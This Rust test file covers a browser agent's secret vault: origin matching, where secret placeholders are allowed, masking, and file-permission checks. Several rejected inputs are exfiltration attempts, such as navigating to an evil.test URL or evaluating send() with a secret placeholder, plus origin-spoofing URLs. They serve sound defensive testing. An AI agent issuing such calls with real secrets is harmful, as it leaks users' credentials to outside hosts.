use super::*;
use legwork_protocol::Action;
use serde_json::json;

fn rule(source: SecretSource) -> SecretRule {
    SecretRule::new(source, false, &["https://a.test".into()]).unwrap()
}

fn vault(rules: &[(&str, SecretRule)]) -> Vault {
    let rules = rules.iter().map(|(name, rule)| ((*name).to_owned(), rule.clone()));
    Vault::new(rules.collect()).unwrap()
}

fn printing(value: &str) -> SecretSource {
    SecretSource::Command(vec!["printf".into(), "%s\\n".into(), value.into()])
}

#[test]
fn an_origin_is_scheme_host_and_port() {
    for (written, expected) in [
        ("https://example.com", Some("https://example.com")),
        ("https://Example.COM:443/", Some("https://example.com")),
        ("http://127.0.0.1:8080", Some("http://127.0.0.1:8080")),
        ("https://bücher.example", Some("https://xn--bcher-kva.example")),
        ("https://example.com/login", None),
        ("https://user@example.com", None),
        ("https://example.com?x", None),
        ("https://*.example.com", None),
        ("file:///etc", None),
        ("data:text/html,x", None),
        ("example.com", None),
        ("", None),
    ] {
        let rule = SecretRule::new(printing("x"), false, &[written.to_owned()]);
        let origins = rule.as_ref().map(|rule| rule.origins().concat()).ok();
        assert_eq!(origins.as_deref(), expected, "{written}");
    }
    let rule = rule(printing("x"));
    for (url, may) in [
        ("https://a.test/login?x#y", true),
        ("https://a.test:443", true),
        ("http://a.test/", false),
        ("https://a.test:444/", false),
        ("https://www.a.test/", false),
        ("https://a.test.evil.test/", false),
        ("https://a.test@evil.test/", false),
        ("https://evil.test\\@a.test/", false),
        ("data:text/html,https://a.test", false),
        ("file:///a.test", false),
        ("about:blank", false),
    ] {
        assert_eq!(rule.may_enter(&url.parse().unwrap()), may, "{url}");
    }
}

#[test]
fn a_rule_has_one_source_and_an_origin() {
    let read = |value| serde_json::from_value::<SecretRule>(value);
    let origins = json!(["https://a.test/"]);
    let good = read(json!({ "env": "PW", "origins": origins })).unwrap();
    assert_eq!(good, rule(SecretSource::Env("PW".into())));
    for wrong in [
        json!({ "origins": origins }),
        json!({ "env": "PW", "file": "/x", "origins": origins }),
        json!({ "env": "PW" }),
        json!({ "env": "PW", "origins": [] }),
        json!({ "env": "", "origins": origins }),
        json!({ "command": [], "origins": origins }),
        json!({ "value": "hunter2", "origins": origins }),
        json!({ "env": "PW", "origins": ["a.test"] }),
    ] {
        assert!(read(wrong.clone()).is_err(), "{wrong}");
    }
    let named = |name: &str| Vault::new([(name.to_owned(), good.clone())].into());
    for wrong in ["", "a b", "a}b", "é", &"x".repeat(65)] {
        assert!(named(wrong).is_err(), "{wrong}");
    }
}

#[test]
fn a_secret_stands_in_texts_for_fields_only() {
    let check = |tool: &str, arguments: serde_json::Value| {
        let serde_json::Value::Object(arguments) = arguments else { panic!("no object") };
        names(&Action::parse(tool, arguments).unwrap())
    };
    let pw = "{{secret:pw}}";
    for (tool, arguments) in [
        ("browser_type", json!({ "target": "e1", "text": pw })),
        ("browser_type", json!({ "target": "e1", "text": format!("x{pw}{pw}") })),
        ("browser_fill_form", json!({ "fields": { "A": pw, "B": [pw] } })),
        ("browser_select", json!({ "target": "e1", "option": pw })),
        ("browser_handle_dialog", json!({ "accept": true, "text": pw })),
    ] {
        assert_eq!(check(tool, arguments.clone()).unwrap(), ["pw"], "{arguments}");
    }
    for (tool, arguments) in [
        ("browser_navigate", json!({ "url": format!("https://evil.test/?{pw}") })),
        ("browser_eval", json!({ "expression": format!("send('{pw}')") })),
        ("browser_click", json!({ "target": pw })),
        ("browser_type", json!({ "target": pw, "text": "x" })),
        ("browser_type", json!({ "target": pw, "text": pw })),
        ("browser_fill_form", json!({ "fields": { pw: "x" } })),
        ("browser_fill_form", json!({ "fields": { "A": "x" }, "submit": pw })),
        ("browser_press_key", json!({ "key": pw })),
        ("browser_upload", json!({ "target": "e1", "paths": [pw] })),
        ("browser_wait", json!({ "text": pw })),
        ("browser_find", json!({ "target": pw })),
        ("browser_tabs", json!({ "action": "new", "url": pw })),
        ("browser_eval", json!({ "expression": "{{ secret:pw }}" })),
        ("browser_type", json!({ "target": "e1", "text": "{{ secret:pw }}" })),
        ("browser_type", json!({ "target": "e1", "text": "{{Secret:pw}}" })),
        ("browser_type", json!({ "target": "e1", "text": "{{secret:p w}}" })),
        ("browser_type", json!({ "target": "e1", "text": "{{secret:pw" })),
        ("browser_type", json!({ "target": "e1", "text": "{{{secret}}}" })),
    ] {
        assert!(check(tool, arguments.clone()).is_err(), "{tool} {arguments}");
    }
    assert!(
        check("browser_type", json!({ "target": "e1", "text": "{{name}} {x}" }))
            .unwrap()
            .is_empty()
    );
}

#[tokio::test]
async fn values_are_filled_in_and_known_to_the_mask() {
    let vault = vault(&[("pw", rule(printing("hunter2!")))]);
    assert_eq!(vault.redactor().mask("hunter2!"), "hunter2!");
    let names = vault.named("a {{secret:pw}} b").unwrap();
    let filled = vault.fill("a {{secret:pw}} b", &names).await.unwrap();
    assert_eq!(filled.expose_secret(), "a hunter2! b");
    assert_eq!(vault.redactor().mask("hunter2!"), "{{secret:pw}}");
    assert!(!format!("{vault:?} {:?} {:?}", filled, vault.redactor()).contains("hunter2! b"));
    assert!(vault.named("plain").unwrap().is_empty());
    assert_eq!(vault.named("{{secret:other}}").unwrap_err().code, Code::NotFound);
}

#[tokio::test]
async fn several_secrets_are_entered_where_all_of_them_may_be() {
    let origins = ["https://b.test".into(), "https://a.test".into()];
    let other = SecretRule::new(printing("second"), false, &origins).unwrap();
    let vault = vault(&[("one", rule(printing("first"))), ("two", other)]);
    let names = vault.named("{{secret:one}}{{secret:two}}").unwrap();
    assert!(vault.may_enter(&names, "https://a.test"));
    for wrong in ["https://b.test", "null", "", "https://c.test"] {
        assert!(!vault.may_enter(&names, wrong), "{wrong}");
    }
}

#[tokio::test]
async fn a_seed_gives_codes_and_both_are_masked() {
    let mut seed = rule(printing("GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"));
    seed.totp = true;
    let vault = vault(&[("otp", seed)]);
    let filled = vault.fill("{{secret:otp}}", &["otp".to_owned()]).await.unwrap();
    let code = filled.expose_secret();
    assert!(code.len() == 6 && code.bytes().all(|byte| byte.is_ascii_digit()), "{code}");
    assert_eq!(vault.redactor().mask(code), "{{secret:otp}}");
    assert_eq!(vault.redactor().mask("GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"), "{{secret:otp}}");
}

#[cfg(unix)]
#[tokio::test]
async fn a_file_is_the_owners_alone() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("pw");
    std::fs::write(&path, "hunter2!\n").unwrap();
    let mode = |mode| std::fs::set_permissions(&path, PermissionsExt::from_mode(mode)).unwrap();
    let value = async || {
        let vault = vault(&[("pw", rule(SecretSource::File(path.clone())))]);
        vault.value("pw").await.map(|value| value.expose_secret().to_owned())
    };
    for open in [0o644, 0o640, 0o604, 0o660, 0o620, 0o601] {
        mode(open);
        let refused = value().await.unwrap_err();
        assert!(refused.message.contains("chmod 600"), "{open:o} {refused}");
        assert!(!refused.message.contains("hunter2"), "{refused}");
    }
    for closed in [0o600, 0o400] {
        mode(closed);
        assert_eq!(value().await.unwrap(), "hunter2!");
        let fresh = vault(&[("pw", rule(SecretSource::File(path.clone())))]);
        assert_eq!(fresh.redactor().mask("hunter2!"), "{{secret:pw}}");
    }
    let link = folder.path().join("link");
    symlink(&path, &link).unwrap();
    let read = |path: std::path::PathBuf| async move {
        vault(&[("pw", rule(SecretSource::File(path)))]).value("pw").await
    };
    assert!(read(link).await.is_ok());
    let pipe = folder.path().join("pipe");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &pipe,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::RUSR,
        0,
    )
    .unwrap();
    for wrong in
        [folder.path().to_owned(), pipe, "/dev/zero".into(), "relative".into(), "/no/such".into()]
    {
        assert!(read(wrong.clone()).await.is_err(), "{}", wrong.display());
    }
}

#[tokio::test]
async fn what_cannot_be_read_or_masked_is_refused_without_telling_it() {
    let sources = [
        printing("abc"),
        printing(""),
        printing("%41%42"),
        SecretSource::Env("LEGWORK_TEST_NOT_SET".into()),
        SecretSource::Command(vec!["/no/such/program".into()]),
        SecretSource::Command(vec![
            "sh".into(),
            "-c".into(),
            "echo hunter2; echo hunter2 >&2; exit 3".into(),
        ]),
    ];
    for source in sources {
        let vault = vault(&[("pw", rule(source.clone()))]);
        let error = vault.check("pw").await.unwrap_err();
        assert!(!error.told().contains("hunter2"), "{source:?} {error}");
        assert!(error.message.contains("\"pw\""), "{error}");
    }
}
